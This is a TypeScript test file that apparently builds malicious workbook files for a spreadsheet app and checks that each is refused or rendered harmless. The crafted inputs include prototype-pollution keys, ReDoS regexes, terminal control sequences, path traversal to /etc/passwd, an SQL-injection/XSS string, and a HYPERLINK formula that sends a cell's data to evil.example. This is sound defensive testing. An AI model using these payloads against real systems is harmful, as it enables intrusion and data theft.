// Workbook files written by hand whose definitions do harm: enormous, nested without end, with keys of prototypes,
// patterns and expressions that take for ever, names that control a terminal or turn text around, addresses of scripts. Each is
// refused, or harmless: other lists stay to the byte, and every procedure answers.
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import Database from 'better-sqlite3'
import { afterAll, afterEach, expect, test } from 'vitest'
import { eraseHost } from '../../testing/erase-workspace.ts'
import { callEvery, everyProcedure } from '../../testing/every-procedure.ts'
import { openAndPlay } from '../../testing/file/received-file.ts'
import { sentWorkbook } from '../../testing/file/sent-workbook.ts'
import { plainPage } from '../../testing/web/scripted-engine.ts'
import { Failure } from '../base/fail.ts'
import { createEngine } from '../engine.ts'

const { dir, at, good, close } = await sentWorkbook('definitions')
afterAll(close)
afterEach(() => {
  expect(Object.keys(Object.prototype)).toEqual([])
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
})

const asked = new Database(good, { readonly: true })
const one = <T>(sql: string) => asked.prepare(sql).pluck().get() as T
const list = one<number>('SELECT min(id) FROM sheet')
const person = one<number>("SELECT id FROM col WHERE name = 'Name'")
const made = one<number>("SELECT id FROM col WHERE name = 'Made'")
const slotOf = (id: number) => one<string>(`SELECT slot FROM col WHERE id = ${id}`)
const [personSlot, madeSlot] = [slotOf(person), slotOf(made)]
const view = JSON.parse(one<string>(`SELECT view FROM sheet WHERE id = ${list}`)) as object
const place = JSON.parse(one<string>(`SELECT place FROM sheet WHERE id = ${list}`)) as object
const source = JSON.parse(one<string>(`SELECT source FROM sheet WHERE id = ${list}`)) as object
asked.close()

interface Crafted {
  readonly change: (db: Database.Database) => void
  readonly became: 'refused' | 'taken'
}

const set = (table: string, column: string, value: string | number | null, where: string) => (db: Database.Database) =>
  void db.prepare(`UPDATE ${table} SET ${column} = ? WHERE ${where}`).run(value)
const ofList = (column: string, value: unknown) =>
  set('sheet', column, typeof value === 'string' ? value : JSON.stringify(value), `id = ${list}`)
const ofColumn = (column: string, value: unknown) =>
  set('col', column, typeof value === 'string' ? value : JSON.stringify(value), `id = ${made}`)
/** An object with this key of its own, as JSON has it. */
const withKey = (json: object, key: string, value: unknown): string =>
  JSON.stringify({ ...json, KEY: value }).replace('"KEY"', JSON.stringify(key))
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`
const nestedObject = (levels: number) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`
/** A cell on which the pattern tries every way to divide it. */
const slow = 'a'.repeat(60)
const turned = '\u202Efdp.elbat\u202C \u2066x\u2069'
const controls = 'a\u001b]0;owned\u0007\u001b[2Jb\nc\td\u009b31me'

function computed(expression: string, cell: string | null = null) {
  return (db: Database.Database) => {
    ofColumn('expression', expression)(db)
    if (cell !== null) db.prepare(`UPDATE s${list} SET ${personSlot} = ?`).run(cell)
  }
}

/** Computed columns of which each has twice the text of the one before. */
function doubling(db: Database.Database): void {
  const slots = Array.from({ length: 60 }, (_, at) => ({ id: 1000 + at, slot: `c${500 + at}` }))
  const columns = slots.map(({ slot }) => `, ${slot} TEXT`).join('')
  const text = db.prepare('SELECT sql FROM sqlite_schema WHERE name = ?').pluck().get(`s${list}`) as string
  db.unsafeMode(true)
  db.pragma('writable_schema = ON')
  db.prepare('UPDATE sqlite_schema SET sql = ? WHERE name = ?').run(text.replace(/\)$/, `${columns})`), `s${list}`)
  db.pragma('writable_schema = RESET')
  const names = (db.prepare("SELECT name FROM pragma_table_info('col')").pluck().all() as string[]).filter(
    name => !['id', 'slot', 'name', 'expression', 'position'].includes(name),
  )
  for (const [at, { id, slot }] of slots.entries())
    db.prepare(
      `INSERT INTO col(id, slot, name, expression, position, ${names.join(', ')})
       SELECT ?, ?, ?, ?, position || ?, ${names.join(', ')} FROM col WHERE id = ${made}`,
    ).run(id, slot, `D${at}`, `[#${at === 0 ? person : id - 1}] & [#${at === 0 ? person : id - 1}]`, `${at}z`)
}

const crafted: Readonly<Record<string, Crafted>> = {
  'a view nested without end': { change: ofList('view', nested(200_000)), became: 'refused' },
  'a view with a part nested without end': {
    change: ofList('view', `{"sort":[],"conditions":[],"search":"","more":${nestedObject(100_000)}}`),
    became: 'refused',
  },
  'a view of 20 million characters': {
    change: ofList('view', JSON.stringify({ ...view, search: 'x'.repeat(20_000_000) })),
    became: 'refused',
  },
  'a view of many conditions': {
    change: ofList('view', { ...view, conditions: Array(100_000).fill({ kind: 'duplicate', columnId: person }) }),
    became: 'refused',
  },
  'a view of as much as a view may hold': {
    change: ofList('view', {
      sort: Array(8).fill({ columnId: person, descending: true }),
      conditions: Array(50).fill({ kind: 'values', columnId: person, values: Array(900).fill('Nobody') }),
      search: 'x'.repeat(200),
    }),
    became: 'taken',
  },
  'a view about columns that are not there': {
    change: ofList('view', {
      ...view,
      sort: [{ columnId: 2 ** 53 - 1, descending: true }],
      conditions: [{ kind: 'contains', columnId: 999_999, text: 'a' }],
    }),
    became: 'taken',
  },
  'a view with the key of a prototype': {
    change: ofList('view', withKey(view, '__proto__', { polluted: true, search: 'x' })),
    became: 'taken',
  },
  'a view with a constructor': {
    change: ofList('view', withKey(view, 'constructor', { prototype: { polluted: true } })),
    became: 'taken',
  },
  'a condition of the kind of a prototype': {
    change: ofList('view', { ...view, conditions: [{ kind: '__proto__', columnId: person }] }),
    became: 'refused',
  },
  'a place with the key of a prototype': {
    change: ofList('place', withKey(place, '__proto__', { polluted: true })),
    became: 'taken',
  },
  'a place behind everything': {
    change: ofList('place', { ...place, scrollTop: 1e308, scrollLeft: 1e308, rowHeight: 1e-308 }),
    became: 'taken',
  },
  'a source with paths and controls': {
    change: ofList('source', { ...source, fileName: `../../etc/passwd${controls}`, sheet: turned }),
    became: 'taken',
  },
  'a source with the key of a prototype': {
    change: ofList('source', withKey(source, '__proto__', { polluted: true })),
    became: 'taken',
  },
  'a source that is a number': { change: ofList('source', '1e999'), became: 'refused' },
  'problems put away under names of prototypes': {
    change: ofList('clean', '{"dismissed":["__proto__","constructor","toString"],"__proto__":{"polluted":true}}'),
    became: 'taken',
  },
  'markers of prototypes': {
    change: ofList('markers', '{"also":["__proto__","constructor"],"never":["hasOwnProperty"]}'),
    became: 'taken',
  },
  'markers of another form': {
    change: ofList('markers', '{"also":[],"never":[],"__proto__":{"also":["x"]}}'),
    became: 'refused',
  },
  'the last export to somewhere': {
    change: ofList('last_export', '{"file":"/etc/passwd","__proto__":{"polluted":true}}'),
    became: 'refused',
  },
  'where a column comes from, with names of prototypes': {
    change: ofColumn(
      'origin',
      `{"op":"__proto__","sourceId":${person},"field":"constructor","resultColumnId":${made}}`,
    ),
    became: 'taken',
  },
  'where a column comes from: itself': {
    change: ofColumn('origin', `{"op":"validate.email","sourceId":${made},"field":"verdict","resultColumnId":${made}}`),
    became: 'taken',
  },
  'colors with the key of a prototype': {
    change: ofColumn('colors', '[{"test":{"kind":"blank","__proto__":{"polluted":true}},"color":"red"}]'),
    became: 'refused',
  },
  'colors with a script as color': {
    change: ofColumn('colors', '[{"test":{"kind":"blank"},"color":"red;background:url(https://evil.example)"}]'),
    became: 'refused',
  },
  'more colors than there may be': {
    change: ofColumn('colors', Array(13).fill({ test: { kind: 'blank' }, color: 'red' })),
    became: 'refused',
  },
  'a notation of another form': { change: ofColumn('notation', '{"__proto__":{"country":"DE"}}'), became: 'refused' },
  'a detection of numbers that are none': {
    change: ofColumn('detection', '{"share":1e400,"invalid":0,"nonEmpty":0,"sure":true}'),
    became: 'refused',
  },
  'a saved view that hides itself in numbers': {
    change: set('saved_view', 'hidden', JSON.stringify([2 ** 53 - 1, 1e15, 1]), '1'),
    became: 'taken',
  },
  'a saved view nested without end': {
    change: set('saved_view', 'spec', nestedObject(300_000), '1'),
    became: 'refused',
  },
  'an expression nested without end': {
    change: computed(`${'('.repeat(50_000)}1${')'.repeat(50_000)}`),
    became: 'refused',
  },
  'an expression of a million characters': {
    change: computed(Array(90_000).fill(`[#${person}]`).join(' & ')),
    became: 'refused',
  },
  'an expression that reads itself': { change: computed(`[#${made}] & "x"`), became: 'taken' },
  'an expression that reads the list of someone else': { change: computed('[#1] & [#2] & [#99999]'), became: 'taken' },
  'a pattern that takes for ever': {
    change: computed(`regexExtract([#${person}], "^(a+)+$")`, `${slow}!`),
    became: 'taken',
  },
  'a pattern that takes for ever, to replace': {
    change: computed(`regexReplace([#${person}], "(a|aa|a?)+b", "x")`, slow),
    became: 'taken',
  },
  'a pattern with references that takes for ever': {
    change: computed(`regexExtract([#${person}], "^(?:(a*)*)*\\\\1$")`, `${slow}!`),
    became: 'taken',
  },
  'a text filled up without end': {
    change: computed(`pad(pad([#${person}], 999999999, "x"), 999999999, "yz")`, slow),
    became: 'taken',
  },
  'a function that nobody has': { change: computed(`repeat([#${person}], 999999)`), became: 'refused' },
  'columns of which each doubles the one before': { change: doubling, became: 'taken' },
  'names that control a terminal': {
    change: db => {
      db.prepare('UPDATE workbook SET name = ?').run(controls)
      db.prepare('UPDATE sheet SET name = ? || id').run(controls)
      db.prepare('UPDATE col SET name = ? || id').run(controls)
      db.prepare('UPDATE saved_view SET name = ? || id').run(controls)
      db.prepare('UPDATE step SET label = ?').run(controls)
    },
    became: 'taken',
  },
  'names that turn text around': {
    change: db => {
      db.prepare('UPDATE workbook SET name = ?').run(turned)
      db.prepare('UPDATE sheet SET name = ?').run(turned)
      db.prepare('UPDATE col SET name = ?').run(turned)
    },
    became: 'taken',
  },
  'names of prototypes': {
    change: db => {
      const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__']
      for (const [at, id] of (db.prepare('SELECT id FROM col ORDER BY id').pluck().all() as number[]).entries())
        db.prepare('UPDATE col SET name = ? WHERE id = ?').run(names[at % names.length], id)
      db.prepare("UPDATE sheet SET name = '__proto__'").run()
      db.prepare("UPDATE saved_view SET name = 'constructor'").run()
    },
    became: 'taken',
  },
  'names that are SQL and markup': {
    change: db => {
      const evil = `"]; DROP TABLE sheet; --<img src=x onerror=alert(1)>'`
      for (const table of ['workbook', 'sheet', 'col', 'saved_view'])
        db.prepare(`UPDATE ${table} SET name = ?`).run(evil)
      db.prepare('UPDATE sheet SET note = ?').run(evil)
    },
    became: 'taken',
  },
  'names of half a character': {
    change: db => {
      // CESU-8: a surrogate alone, which is no UTF-8.
      db.exec("UPDATE sheet SET name = CAST(x'61eda0bd62' AS TEXT); UPDATE col SET name = CAST(x'ff' AS TEXT) || id")
    },
    became: 'taken',
  },
  'a name of a million characters': { change: ofList('name', 'x'.repeat(1_000_000)), became: 'refused' },
  'a name with a NUL': { change: ofList('name', 'a\u0000b'), became: 'taken' },
  'addresses of scripts, files and other computers in cells': {
    change: db => {
      const addresses = [
        'javascript:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'file:///etc/passwd',
        '\\\\evil.example\\share',
        '=HYPERLINK("https://evil.example/?"&A1)',
      ]
      for (const [at, address] of addresses.entries())
        db.prepare(`UPDATE s${list} SET ${personSlot} = ?, ${madeSlot} = ? WHERE id = ?`).run(address, address, at + 1)
    },
    became: 'taken',
  },
}

function craft(name: string, { change }: Crafted): string {
  const file = path.join(dir, `${name.replaceAll(/\W/g, '-')}.listwright`)
  copyFileSync(good, file)
  const db = new Database(file)
  db.pragma('foreign_keys = OFF')
  change(db)
  db.close()
  return file
}

test.each(Object.entries(crafted))('%s: refused or harmless', async (name, what) => {
  const file = craft(name, what)
  expect(await openAndPlay(at, dir, file)).toBe(what.became)
  rmSync(file)
})

test('with all of them opened one after the other, whatever the page may call has an answer', async () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'listwright-definitions-calls-'))
  const engine = await createEngine(eraseHost(folder))
  try {
    for (const [name, what] of Object.entries(crafted)) {
      const file = craft(`call ${name}`, what)
      const became = await engine.portable.open(file).then(
        () => 'taken',
        (error: unknown) => {
          if (error instanceof Failure && error.code === 'file_damaged') return 'refused'
          throw error
        },
      )
      expect(became, name).toBe(what.became)
      rmSync(file)
    }
    for (const book of await engine.sheets.workbooks())
      for (const { id } of book.sheets) {
        const { html } = await engine.explains.page(id)
        expect(html).not.toMatch(/<img|<script|onerror=(?!alert\(1\)&gt;)|href="(?!https?:|#|mailto:)/i)
      }
    expect(await callEvery(engine, plainPage)).toBeGreaterThan(everyProcedure.length / 2)
  } finally {
    await engine.close()
    rmSync(folder, { recursive: true, force: true })
  }
}, 600_000)
